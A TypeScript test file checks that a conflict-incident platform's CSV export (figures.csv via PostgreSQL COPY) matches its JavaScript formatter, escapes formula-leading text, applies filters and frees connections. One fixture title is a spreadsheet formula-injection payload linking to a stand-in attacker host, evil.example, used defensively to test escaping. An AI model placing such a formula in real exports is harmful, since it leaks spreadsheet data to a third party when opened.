// figures.csv (stored figures) is written by one COPY on a direct connection. Its bytes must be
// exactly what the JavaScript formatter writes for the same rows read through Prisma (csvText,
// formatCell: neutralised text, numbers as String(n), dates, lists, RFC 4180 quoting, CRLF), for
// awkward text and numbers, with and without a filter; the fingerprint must come from the same
// snapshot; and a download stopped half-way must give its connection back.
import { randomUUID } from "node:crypto";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Db, Tx } from "@/lib/db";
import { databaseUrlOf, endRawPools, rawPool } from "@/lib/db/raw-pg";
import { FIGURES_COLUMNS } from "@/lib/export/columns";
import { formatCell, listCell, type Cell } from "@/lib/export/csv-cell";
import { countryName } from "@/lib/datasets/dataset-mapping";
import { isoDay } from "@/lib/validation/calendar-day";
import { csvText, openExport } from "@/lib/export/export-registry";
import { exportManifest } from "@/lib/export/export-response";
import { jsNumberSql, textCellSql } from "@/lib/export/figures-copy";
import { dataVersion } from "@/lib/export/incident-batches";
import { incidentWhere } from "@/lib/incidents/incident-queries";
import type { IncidentFilter } from "@/lib/validation/incident-filter";
import { csvRecords, exportBytes } from "./export-support";
import { useTestDb } from "./test-database";
import { GET as exportGet } from "@/app/api/export/[file]/route";

let db: Db;
let url: string;

type Awkward = {
  code: string;
  title: string;
  country?: string;
  date: string;
  admin1?: string | null;
  admin2?: string | null;
  place?: string;
  lat: number | string;
  lon: number | string;
  eventType?: string;
  subEventType?: string | null;
  flags?: ("contested" | "single_source" | "parties_only" | "official_lower" | "open_ended")[];
  actors?: string[];
  figures?: boolean;
  mergedInto?: string;
};

const AWKWARD: Awkward[] = [
  {
    code: "AAA-2024-0001",
    title: '=HYPERLINK("http://evil.example/?q="&A1)',
    country: "MLI",
    date: "2024-05-01",
    admin1: "",
    admin2: null,
    place: "+place",
    lat: 0.00001,
    lon: -0.000001,
    eventType: "-Battles",
    subEventType: "@sub",
    flags: ["contested"],
    actors: ["Group 50%_o'k Brigade"],
  },
  {
    code: "AAA-2024-0002",
    title: "\tTabbed, with a comma",
    country: "MLI",
    date: "2024-06-01",
    admin1: null,
    admin2: "",
    place: "'=already neutralised",
    lat: "-0",
    lon: 0,
    eventType: "''+two apostrophes",
    subEventType: "'Tis an apostrophe",
    flags: ["parties_only", "contested"],
    actors: ["Group 50 percent ok"],
  },
  {
    code: "AAA-2024-0003",
    title: "Line one\nline two",
    country: "MLI",
    date: "2024-02-01",
    admin1: 'Gao, "north"',
    admin2: "Ménaka",
    place: "Tillabéri — 北京 🙂",
    lat: 89.999999999,
    lon: 179.99999999999997,
    subEventType: "",
    actors: ["Group 50%_o'k Brigade"],
  },
  {
    code: "AAA-2024-0004",
    title: 'CRLF\r\ninside, and "quotes"',
    country: "NER",
    date: "2024-05-05",
    lat: -2.5e-5,
    lon: 1e-7,
    actors: ["x50%_o'k"],
  },
  { code: "AAA-2024-0005", title: "\r=1", country: "MLI", date: "2024-07-01", lat: -90, lon: 180, flags: ["single_source"] },
  {
    code: "AAA-2024-0006",
    title: "@merged",
    country: "MLI",
    date: "2024-05-02",
    lat: 0.5,
    lon: 0.5,
    flags: ["contested"],
    actors: ["Group 50%_o'k"],
    mergedInto: "AAA-2024-0001",
  },
  {
    code: "AAA-2024-0007",
    title: "No figures at all",
    country: "MLI",
    date: "2024-05-03",
    lat: 0.25,
    lon: 0.25,
    flags: ["contested"],
    figures: false,
  },
  { code: "AAA-2024-0010", title: "-", country: "MLI", date: "2024-05-04", lat: 90, lon: -179.99999999999997, admin1: "-", place: "'" },
  { code: "aaa-2024-0011", title: "lower-case code", country: "BFA", date: "2024-05-04", lat: 5e-324, lon: -1e-300 },
  { code: "AAA-2024-0012", title: "Near the thresholds", country: "BFA", date: "2024-05-04", lat: 1.5e-7, lon: -9.999999999999999e-5 },
  { code: "AAA-2024-001", title: "'", country: "BFA", date: "2024-05-04", lat: 12.345678901234567, lon: -0.1 },
];

// The slugs sort differently in "C" than in most locales ("-" before "2").
const SOURCES = ["zeta", "alpha", "alpha-2", "alpha2", "beta"];
/** Bulk figures for the cancel test: enough bytes that the COPY cannot be done when the reader stops. */
const BULK = 3000;

async function insertData() {
  const sources = new Map<string, string>();
  for (const slug of SOURCES) sources.set(slug, (await db.source.create({ data: { slug, name: `Source ${slug}`, kind: "ngo" } })).id);
  for (const a of AWKWARD) {
    const incident = await db.incident.create({
      data: {
        code: a.code,
        title: a.title,
        dateStart: new Date(`${a.date}T00:00:00Z`),
        dateEnd: new Date(`${a.date}T00:00:00Z`),
        placeName: a.place ?? `Place of ${a.code}`,
        admin1: a.admin1 === undefined ? "Gao" : a.admin1,
        admin2: a.admin2 === undefined ? null : a.admin2,
        countryIso3: a.country ?? "MLI",
        latitude: 1,
        longitude: 1,
        locationPrecision: 3,
        eventType: a.eventType ?? "Battles",
        subEventType: a.subEventType === undefined ? "Armed clash" : a.subEventType,
        flags: a.flags ?? [],
        actors: a.actors ? { create: a.actors.map((name) => ({ name, role: "alleged_perpetrator" as const })) } : undefined,
      },
    });
    // Exact doubles (and -0), whatever the driver would make of them. (The table keeps them in -90…90 and -180…180.)
    await db.$executeRawUnsafe(
      `UPDATE "Incident" SET "latitude" = $1::float8, "longitude" = $2::float8 WHERE "id" = $3::uuid`,
      String(a.lat),
      String(a.lon),
      incident.id,
    );
    if (a.figures === false) continue;
    // Inserted out of order: the file orders them by metric, then category (enum order).
    const groups = [
      { metric: "abducted", category: "civilians", high: 3, flags: [] },
      { metric: "killed", category: "unspecified", high: null, flags: ["open_ended"] },
      { metric: "killed", category: "civilians", high: 40, flags: ["parties_only", "contested"] },
      { metric: "injured", category: "attackers", high: 9, flags: ["single_source"] },
    ] as const;
    for (const [n, g] of groups.entries()) {
      await db.reconciliation.create({
        data: {
          incidentId: incident.id,
          metric: g.metric,
          category: g.category,
          low: n,
          best: n + 1,
          high: g.high,
          method: n === 2 ? "editor" : "source_priority",
          rationale: "Test.",
          flags: [...g.flags],
          claimCount: n,
          sourceCount: n,
          independentSourceCount: n,
          computedAt: new Date(Date.UTC(2024, 4, 6, 7, 8, 9, n === 0 ? 0 : n * 120)),
        },
      });
    }
    const claim = (slug: string, metric: "killed" | "injured", category: "civilians" | "attackers", retracted = false) =>
      db.claim.create({
        data: {
          incidentId: incident.id,
          claimantId: sources.get(slug)!,
          metric,
          category,
          valueMin: 1,
          valueMax: 1,
          qualifier: "exact",
          statement: "=1 killed",
          retractedAt: retracted ? new Date() : null,
        },
      });
    for (const slug of ["zeta", "alpha2", "alpha-2", "alpha", "zeta"]) await claim(slug, "killed", "civilians");
    await claim("beta", "killed", "civilians", true);
    await claim("beta", "injured", "attackers");
  }
  for (const a of AWKWARD.filter((x) => x.mergedInto)) {
    const target = await db.incident.findUniqueOrThrow({ where: { code: a.mergedInto! } });
    await db.incident.update({ where: { code: a.code }, data: { mergedIntoId: target.id } });
  }
  const bulkIds = Array.from({ length: BULK }, () => randomUUID());
  await db.incident.createMany({
    data: bulkIds.map((id, n) => ({
      id,
      code: `ZZZ-2024-${String(n).padStart(5, "0")}`,
      title: `Bulk incident ${n} `.padEnd(600, "x"),
      dateStart: new Date(Date.UTC(2024, 0, 1)),
      dateEnd: new Date(Date.UTC(2024, 0, 1)),
      placeName: "Bulk",
      countryIso3: "ZZZ",
      latitude: 10 + n / 1000,
      longitude: -10 - n / 1000,
      eventType: "Battles",
    })),
  });
  await db.reconciliation.createMany({
    data: bulkIds.map((incidentId, n) => ({
      incidentId,
      metric: "killed" as const,
      category: "civilians" as const,
      low: n,
      best: n,
      high: n,
      method: "source_priority" as const,
      rationale: "Bulk.",
      claimCount: 0,
      sourceCount: 0,
      independentSourceCount: 0,
    })),
  });
}

/** figures.csv as the JavaScript formatter writes it, from the rows Prisma reads (the filter in its Prisma form). */
async function expectedFigures(filter: IncidentFilter): Promise<string> {
  const incidents = await db.incident.findMany({
    where: incidentWhere(filter),
    orderBy: { code: "asc" },
    include: {
      figures: { orderBy: [{ metric: "asc" }, { category: "asc" }] },
      claims: { where: { retractedAt: null }, select: { metric: true, category: true, claimant: { select: { slug: true } } } },
    },
  });
  const rows: Cell[][] = [];
  for (const i of incidents) {
    for (const f of i.figures) {
      // Code-unit order is "C" order for these ASCII slugs.
      const claimants = [
        ...new Set(i.claims.filter((c) => c.metric === f.metric && c.category === f.category).map((c) => c.claimant.slug)),
      ].sort();
      rows.push([
        i.code,
        i.title,
        isoDay(i.dateStart),
        isoDay(i.dateEnd),
        i.datePrecision,
        i.countryIso3,
        countryName(i.countryIso3),
        i.admin1,
        i.admin2,
        i.placeName,
        i.latitude,
        i.longitude,
        i.locationPrecision,
        i.eventType,
        i.subEventType,
        f.metric,
        f.category,
        f.low,
        f.best,
        f.high,
        f.method,
        listCell(f.flags),
        f.claimCount,
        f.sourceCount,
        f.independentSourceCount,
        listCell(claimants),
        i.grading,
        f.computedAt.toISOString(),
      ]);
    }
  }
  return csvText([[...FIGURES_COLUMNS]]) + csvText(rows);
}

async function copyBackends(): Promise<number> {
  const rows = await db.$queryRaw<{ n: number }[]>`
    SELECT count(*)::int AS n FROM pg_stat_activity
    WHERE datname = current_database() AND pid <> pg_backend_pid() AND (query LIKE 'COPY%' OR state LIKE 'idle in transaction%')`;
  return rows[0]!.n;
}

async function waitForNoCopyBackends() {
  for (let i = 0; i < 100; i++) {
    if ((await copyBackends()) === 0) return;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error("a COPY backend (or its transaction) is still there");
}

beforeAll(async () => {
  db = await useTestDb();
  url = databaseUrlOf(db)!;
  // The route handler reads DATABASE_URL (first use) for its connections.
  process.env.DATABASE_URL = url;
  await insertData();
}, 120_000);

afterAll(async () => {
  await endRawPools();
});

describe("figures.csv by COPY", () => {
  it("writes the bytes the JavaScript formatter writes, for awkward text and numbers", async () => {
    const actual = await exportBytes(db, "figures.csv");
    const expected = await expectedFigures({});
    expect(actual.toString("utf8")).toBe(expected);
    expect(actual.equals(Buffer.from(expected, "utf8"))).toBe(true);

    // A few cells spelled out, so a shared mistake in both writers cannot hide.
    const text = actual.toString("utf8");
    expect(text.startsWith(`${FIGURES_COLUMNS.join(",")}\r\n`)).toBe(true);
    expect(text).toContain(
      `AAA-2024-0001,"'=HYPERLINK(""http://evil.example/?q=""&A1)",2024-05-01,2024-05-01,day,MLI,Mali,,,'+place,0.00001,-0.000001,3,'-Battles,'@sub,killed,civilians,2,3,40,editor,parties_only;contested,2,2,2,alpha;alpha-2;alpha2;zeta,fair,2024-05-06T07:08:09.240Z\r\n`,
    );
    expect(text).toContain(
      `AAA-2024-0002,"'\tTabbed, with a comma",2024-06-01,2024-06-01,day,MLI,Mali,,,''=already neutralised,0,0,3,'''+two apostrophes,'Tis an apostrophe,killed,civilians`,
    );
    expect(text).toContain(
      `AAA-2024-0003,"Line one\nline two",2024-02-01,2024-02-01,day,MLI,Mali,"Gao, ""north""",Ménaka,Tillabéri — 北京 🙂,89.999999999,179.99999999999997,3,Battles,,`,
    );
    expect(text).toContain(
      `"CRLF\r\ninside, and ""quotes""",2024-05-05,2024-05-05,day,NER,Niger,Gao,,Place of AAA-2024-0004,-0.000025,1e-7,`,
    );
    expect(text).toContain(`AAA-2024-0005,"'\r=1",2024-07-01,2024-07-01,day,MLI,Mali,Gao,,Place of AAA-2024-0005,-90,180,`);
    expect(text).toContain(`AAA-2024-0010,'-,2024-05-04,2024-05-04,day,MLI,Mali,'-,,',90,-179.99999999999997,`);
    expect(text).toContain(
      `aaa-2024-0011,lower-case code,2024-05-04,2024-05-04,day,BFA,Burkina Faso,Gao,,Place of aaa-2024-0011,5e-324,-1e-300,`,
    );
    expect(text).toContain(
      `AAA-2024-0012,Near the thresholds,2024-05-04,2024-05-04,day,BFA,Burkina Faso,Gao,,Place of AAA-2024-0012,1.5e-7,-0.00009999999999999999,`,
    );
    expect(text).toContain(`,injured,attackers,3,4,9,source_priority,single_source,3,3,3,beta,fair,2024-05-06T07:08:09.360Z\r\n`);
    expect(text).toContain(`,abducted,civilians,0,1,3,source_priority,,0,0,0,,fair,2024-05-06T07:08:09.000Z\r\n`);
    // Merged incidents and incidents without figures write no row.
    expect(text).not.toContain("AAA-2024-0006");
    expect(text).not.toContain("AAA-2024-0007");
  });

  it("applies the filter as the Prisma form of it does, LIKE wildcards and quotes in the actor taken literally", async () => {
    const filters: IncidentFilter[] = [
      {
        country: ["MLI"],
        from: "2024-03-01",
        to: "2024-09-30",
        bbox: { minLon: -1, minLat: -1, maxLon: 1, maxLat: 1 },
        flag: ["contested"],
        actor: "50%_o'k",
      },
      { actor: "50%_o'k" },
      { country: ["BFA", "NER"], admin1: ["GAO"] },
      { bbox: { minLon: 170, minLat: 80, maxLon: -170, maxLat: 90 }, eventType: ["Battles"], grading: ["fair"] },
      { claimant: ["beta"], claimantKind: ["ngo"] },
      { minKilled: 1 },
      { country: ["USA"] },
    ];
    const codes: string[][] = [];
    for (const filter of filters) {
      const expected = await expectedFigures(filter);
      expect((await exportBytes(db, "figures.csv", filter)).toString("utf8"), JSON.stringify(filter)).toBe(expected);
      codes.push([...new Set(csvRecords(expected).map((r) => r.incident_code!))]);
    }
    // 0002's actor has no "%_" in it, 0003 is out of the dates and the box, 0004 is in NER, 0006 is merged.
    expect(codes[0]).toEqual(["AAA-2024-0001"]);
    expect(codes[1]).toEqual(["AAA-2024-0001", "AAA-2024-0003", "AAA-2024-0004"]);
    expect(codes.at(-1)).toEqual([]);
  });

  it("reads the fingerprint in the snapshot of the COPY, and the manifest hashes the same bytes", async () => {
    const filter: IncidentFilter = { country: ["MLI"] };
    const before = await dataVersion(db as unknown as Tx, filter);
    const opened = await openExport(db, "figures.csv", filter, null, { databaseUrl: url });
    expect(opened.dataVersion).toEqual(before);
    // A change committed after the export began is not in it.
    await db.incident.update({ where: { code: "AAA-2024-0003" }, data: { title: "Renamed after the export began" } });
    const pieces: Uint8Array[] = [];
    for await (const chunk of opened.chunks) pieces.push(chunk.bytes);
    const text = Buffer.concat(pieces).toString("utf8");
    expect(text).toContain('"Line one\nline two"');
    expect(text).not.toContain("Renamed");
    const after = await dataVersion(db as unknown as Tx, filter);
    expect(after.lastUpdated).not.toBe(before.lastUpdated);

    const manifest = await exportManifest(db, "figures.csv", filter, null);
    const again = await exportBytes(db, "figures.csv", filter);
    const { createHash } = await import("node:crypto");
    expect(manifest.sha256).toBe(createHash("sha256").update(again).digest("hex"));
    expect(manifest.bytes).toBe(again.length);
    expect(manifest.rows).toBe(csvRecords(again.toString("utf8")).length);
    expect(manifest.dataVersion).toBe(`incidents=${after.incidents}; last-updated=${after.lastUpdated}`);
    await db.incident.update({ where: { code: "AAA-2024-0003" }, data: { title: "Line one\nline two" } });
  });

  it("gives the connection back when the reader stops half-way, before the first byte, or at the end", async () => {
    const pool = rawPool(url);
    // More stopped downloads than the pool has connections: a leaked one would make the last wait for ever.
    for (let k = 0; k < 5; k++) {
      const opened = await openExport(db, "figures.csv", { country: ["ZZZ"] }, null, { databaseUrl: url });
      const header = await opened.chunks.next();
      expect(new TextDecoder().decode(header.value!.bytes)).toMatch(/^incident_code,/);
      const first = await opened.chunks.next();
      expect(first.done).toBe(false);
      await opened.chunks.return(undefined);
    }
    await waitForNoCopyBackends();
    expect(pool.waitingCount).toBe(0);

    for (let k = 0; k < 5; k++) {
      const opened = await openExport(db, "figures.csv", { country: ["ZZZ"] }, null, { databaseUrl: url });
      await opened.chunks.return(undefined);
    }
    await waitForNoCopyBackends();
    expect(pool.totalCount - pool.idleCount).toBe(0);

    const whole = await exportBytes(db, "figures.csv", { country: ["ZZZ"] });
    expect(csvRecords(whole.toString("utf8"))).toHaveLength(BULK);
    expect(pool.totalCount - pool.idleCount).toBe(0);
  });

  it("releases the connection when the HTTP client cancels the download", async () => {
    for (let k = 0; k < 4; k++) {
      const response = await exportGet(new Request("http://localhost/api/export/figures.csv?country=ZZZ"), {
        params: Promise.resolve({ file: "figures.csv" }),
      });
      expect(response.status).toBe(200);
      expect(response.headers.get("x-triangulate-data-version")).toMatch(new RegExp(`^incidents=${BULK}; `));
      const reader = response.body!.getReader();
      await reader.read();
      await reader.read();
      await reader.cancel();
    }
    await waitForNoCopyBackends();
    const pool = rawPool(url);
    expect(pool.totalCount - pool.idleCount).toBe(0);
  });
});

describe("cell expressions", () => {
  let client: pg.Client;
  beforeAll(async () => {
    client = new pg.Client({ connectionString: url });
    await client.connect();
    return () => client.end();
  });

  it("write every double as JavaScript's String(n) does", async () => {
    const special = ["-0", "NaN", "Infinity", "-Infinity"];
    const values: number[] = [
      0,
      1,
      -1,
      0.1,
      0.5,
      1e-4,
      9.999999999999999e-5,
      1e-5,
      0.00001234,
      1e-6,
      9.999999999999999e-7,
      1e-7,
      1.5e-7,
      1e-300,
      5e-324,
      2.2250738585072014e-308,
      1e14,
      99999999999999.98,
      1e15,
      999999999999999.9,
      1e15 + 2,
      Number.MAX_SAFE_INTEGER,
      1e20,
      1e21,
      1.5e21,
      Number.MAX_VALUE,
      12.345678901234567,
      179.99999999999997,
      -89.999999999,
      0.30000000000000004,
    ];
    let seed = 42;
    const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
    for (let k = 0; k < 3000; k++) {
      // Below 2^53 (coordinates lie within ±180): above it, PostgreSQL's shortest digits can differ from
      // JavaScript's when the shortest decimal lies exactly on the boundary of the double's interval.
      const exponent = Math.floor(next() * 46) - 30;
      values.push((next() < 0.5 ? -1 : 1) * next() * 10 ** exponent);
      values.push(Math.round(next() * 1e6) / 1e5 - 5);
    }
    const texts = [...special, ...values.map((v) => (Object.is(v, -0) ? "-0" : String(v)))];
    await client.query("SET extra_float_digits = 1");
    const { rows } = await client.query<{ v: string | null }>(
      `SELECT ${jsNumberSql("x")} AS v FROM unnest($1::float8[]) WITH ORDINALITY AS u(x, n) ORDER BY n`,
      [texts],
    );
    const expected = texts.map((t) => formatCell(Number(t)));
    expect(rows.map((r) => r.v ?? "")).toEqual(expected);
  });

  it("neutralise text as neutraliseText does, and write empty text as NULL", async () => {
    const texts = [
      "",
      "=1",
      "+1",
      "-1",
      "@a",
      "\t=1",
      "\r=1",
      "'=1",
      "''-1",
      "'''@",
      "'",
      "''",
      "'a",
      "a=1",
      " =1",
      "\n=1",
      "é=",
      "=",
      "-",
      "'\t",
      "🙂",
      "plain",
    ];
    const { rows } = await client.query<{ v: string | null }>(
      `SELECT ${textCellSql("x")} AS v FROM unnest($1::text[]) WITH ORDINALITY AS u(x, n) ORDER BY n`,
      [texts],
    );
    expect(rows.map((r) => r.v)).toEqual(texts.map((t) => (t === "" ? null : formatCell(t))));
  });
});
